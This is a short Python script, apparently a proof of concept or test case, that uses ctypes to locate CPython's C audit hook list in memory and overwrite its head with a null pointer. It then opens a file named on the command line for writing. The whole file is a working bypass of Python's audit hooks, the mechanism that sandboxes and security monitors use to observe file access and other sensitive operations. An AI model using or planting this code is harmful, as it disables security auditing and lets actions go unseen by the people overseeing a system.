"""ctypes writes a null pointer over the list of C hooks (python-audit_hook_head_finder)."""

import ctypes
import sys

from memory import hook_list


def read(address, size):
    return bytes((ctypes.c_char * size).from_address(address))


where = hook_list(read)
if where is not None:
    ctypes.c_size_t.from_address(where).value = 0
open(sys.argv[1], "w").close()
